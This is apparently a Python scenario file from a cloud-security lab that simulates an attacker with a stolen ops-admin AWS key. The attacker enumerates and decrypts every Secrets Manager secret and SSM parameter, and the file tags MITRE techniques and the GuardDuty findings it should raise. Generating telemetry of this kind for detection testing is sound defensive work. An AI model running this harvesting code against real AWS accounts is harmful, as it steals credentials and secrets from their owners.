"""secrets-harvest: every secret and every SSM parameter read in one burst.

ops-admin's access key, used from ``ATTACKER_IP_2``, lists Secrets Manager secrets and reads each one
(GetSecretValue), then all of them again in one BatchGetSecretValue, then walks SSM Parameter Store:
DescribeParameters, GetParametersByPath ``/`` recursively and GetParameters, both with decryption.
"""

from __future__ import annotations

from cloudwarden.lab import demo_org as org
from cloudwarden.lab.scenarios.base import Scenario, ScenarioContext, pages

BATCH = 20  # BatchGetSecretValue's SecretIdList limit
NAMES_PER_GET = 10  # GetParameters' Names limit


def run(ctx: ScenarioContext) -> None:
    attacker = ctx.actor(f"prod/{org.USER_OPS_ADMIN}", source_ip=org.ATTACKER_IP_2,
                         user_agent=org.ATTACKER_USER_AGENT)
    attacker.client("sts").get_caller_identity()
    secretsmanager = attacker.client("secretsmanager")
    secrets = pages(secretsmanager, "list_secrets", "SecretList")
    arns = [s["ARN"] for s in secrets]
    for arn in arns:
        secretsmanager.get_secret_value(SecretId=arn)
    for offset in range(0, len(arns), BATCH):
        secretsmanager.batch_get_secret_value(SecretIdList=arns[offset:offset + BATCH])

    ssm = attacker.client("ssm")
    names = [p["Name"] for p in pages(ssm, "describe_parameters", "Parameters")]
    pages(ssm, "get_parameters_by_path", "Parameters", Path="/", Recursive=True, WithDecryption=True)
    for offset in range(0, len(names), NAMES_PER_GET):
        ssm.get_parameters(Names=names[offset:offset + NAMES_PER_GET], WithDecryption=True)
    for name in names:
        ssm.get_parameter(Name=name, WithDecryption=True)


SCENARIO = Scenario(
    name="secrets-harvest",
    title="Bulk read of every secret and parameter",
    description=(
        f"prod/{org.USER_OPS_ADMIN}'s key from {org.ATTACKER_IP_2} (Kali AWS CLI): GetCallerIdentity; ListSecrets, "
        "GetSecretValue for every secret, BatchGetSecretValue over all of them; DescribeParameters, "
        "GetParametersByPath / (recursive) with WithDecryption, GetParameters in batches of ten and GetParameter "
        "for each name, all with WithDecryption."
    ),
    mitre=("T1555.006", "T1552", "T1078.004"),
    finding_types=(
        "CredentialAccess:IAMUser/AnomalousBehavior",
        "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
        "PenTest:IAMUser/KaliLinux",
    ),
    run=run,
)
